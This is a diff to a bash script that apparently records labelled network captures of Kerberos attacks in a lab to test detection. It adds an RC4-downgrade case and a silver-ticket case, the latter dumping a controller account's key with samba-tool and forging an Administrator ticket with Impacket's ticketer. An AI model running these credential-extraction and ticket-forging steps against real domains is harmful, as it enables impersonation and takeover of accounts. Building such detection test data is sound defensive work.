@@ -70,15 +70,11 @@ record_enumerate_kerberos() {
     finish
 }
 
-record_roast_asrep() {
-    begin roast-asrep attack "Impacket's GetNPUsers asks an MIT KDC for tickets of six users without proving anything; two accounts allow that."
-    local user
-    hospital clients servers
-    host dc servers $DC
-    host attacker clients $ATTACKER
-    programs krb5-kdc python3-impacket
+# mit_realm [etype...]: a realm of MIT's, to be filled by kadmin.local and served by krb5kdc; $with is their environment.
+mit_realm() {
+    programs krb5-kdc
     DC_ADDRESS=$DC
-    krb5_conf
+    krb5_conf "$@"
     cat >"$WORK/kdc.conf" <<END
 [kdcdefaults]
 kdc_listen = $DC:88
@@ -90,8 +86,73 @@ $REALM = {
     acl_file = $WORK/acl
 }
 END
-    local with="env KRB5_CONFIG=$WORK/krb5.conf KRB5_KDC_PROFILE=$WORK/kdc.conf"
+    with="env KRB5_CONFIG=$WORK/krb5.conf KRB5_KDC_PROFILE=$WORK/kdc.conf"
     in_host dc $with kdb5_util create -s -r $REALM -P "$ADMIN_PASSWORD" >>"$WORK/output" 2>&1 || fail "$CASE: no realm (see $WORK/output)"
+}
+
+record_cred_skeleton_key() {
+    begin cred-skeleton-key attack "Three people log on with AES; then the controller has no AES keys for them any more, and they are made to use RC4, as after somebody put a skeleton key into a controller's memory."
+    note "Nobody patched a controller: kadmin took the AES keys of the three accounts away, which looks the same on the wire."
+    local user
+    hospital clients servers
+    host dc servers $DC
+    host desk clients $USER_HOST
+    mit_realm aes256-cts-hmac-sha1-96 arcfour-hmac
+    for user in anna bert carla; do
+        in_host dc $with kadmin.local -r $REALM -q "addprinc +requires_preauth -pw $USER_PASSWORD $user" >>"$WORK/output" 2>&1
+    done
+    service dc $with krb5kdc -n -r $REALM
+    answering dc $DC 88
+    capture clients
+    for user in anna bert carla; do
+        as_user desk $user
+    done
+    for user in anna bert carla; do
+        write_down dc "kadmin.local -q 'cpw -e arcfour-hmac:normal -pw $USER_PASSWORD $user'"
+        in_host dc $with kadmin.local -r $REALM -q "cpw -e arcfour-hmac:normal -pw $USER_PASSWORD $user" >>"$WORK/output" 2>&1
+    done
+    for user in anna bert carla; do
+        as_user desk $user
+    done
+    expect "{technique: T1562.010, actor: $USER_HOST, what: logons that the controller talks down, target: $DC}"
+    expect "{technique: T1556.001, actor: $DC, kind: controller without modern encryption, target: $DC}"
+    contains "kerberos.msg_type == 11" -eq 6
+    finish
+}
+
+record_ticket_forged_service() {
+    begin ticket-forged-service attack "An attacker who has the key of a server's account forges a ticket for its files in an administrator's name (Impacket's ticketer, a silver ticket); the domain controller is never asked."
+    ward_domain
+    domain_start
+    domain_client desk
+    domain_client attacker
+    local hash sid
+    in_host dc samba-tool user getpassword '--filter=(sAMAccountName=DC1$)' --attributes=unicodePwd,objectSid -s "$DC_HOME/etc/smb.conf" >"$WORK/server" 2>>"$WORK/output" || true
+    hash=$(sed -n 's/^unicodePwd:: //p' "$WORK/server" | base64 -d | xxd -p)
+    sid=$(sed -n 's/^objectSid: //p' "$WORK/server" | sed 's/-[0-9]*$//')
+    [[ -n $hash && -n $sid ]] || fail "$CASE: no key of the server (see $WORK/server)"
+    impacket ticketer
+    local ticketer=$IMPACKET
+    impacket smbclient
+    capture clients
+    as_user desk anna
+    in_domain desk smbclient -s "$WORK/client-desk/smb.conf" --use-kerberos=required -U anna //dc1.$DOMAIN/records -c ls
+    shell attacker "cd $WORK && $PYTHON $ticketer -nthash $hash -domain-sid $sid -domain $DOMAIN -spn cifs/dc1.$DOMAIN Administrator"
+    echo shares >"$WORK/do"
+    shell attacker "cd $WORK && KRB5_CONFIG=$WORK/krb5.conf KRB5CCNAME=$WORK/Administrator.ccache $PYTHON $IMPACKET -k -no-pass -dc-ip $DC -target-ip $DC $DOMAIN/Administrator@dc1.$DOMAIN -file $WORK/do"
+    expect "{technique: T1558.002, actor: $ATTACKER, kind: ticket that nobody gave out, target: $DC}"
+    contains "kerberos.msg_type == 14" -ge 2
+    finish
+}
+
+record_roast_asrep() {
+    begin roast-asrep attack "Impacket's GetNPUsers asks an MIT KDC for tickets of six users without proving anything; two accounts allow that."
+    local user
+    hospital clients servers
+    host dc servers $DC
+    host attacker clients $ATTACKER
+    programs python3-impacket
+    mit_realm
     for user in anna bert carla dirk; do
         in_host dc $with kadmin.local -r $REALM -q "addprinc +requires_preauth -pw $USER_PASSWORD $user" >>"$WORK/output" 2>&1
     done
